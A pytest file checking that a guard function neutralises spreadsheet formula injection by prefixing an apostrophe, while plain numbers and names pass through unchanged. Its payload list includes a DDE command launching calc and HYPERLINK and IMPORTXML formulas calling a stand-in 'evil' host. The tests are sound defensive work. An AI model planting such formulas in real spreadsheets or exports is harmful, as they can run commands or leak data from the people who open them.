"""No text acts as a formula in a spreadsheet; numbers and other texts stay as they are."""

from __future__ import annotations

import pytest

from training_catalog.formula_guard import guarded

FORMULAS = (
    "=1+1", "+1+1|x", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "＋1", "－1x", "＠a",
    '=HYPERLINK("http://evil","x")', "=IMPORTXML(CONCAT(\"http://evil\"),1)", "=DDE(\"cmd\")", "-1-1", "+a", "@@", "@x",
    "=",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_act_as_a_formula_is_kept_from_it(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-1.5", "+3", "12", "Nguyễn Văn An", "a=1", "", "-0,5"])
def test_plain_numbers_and_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
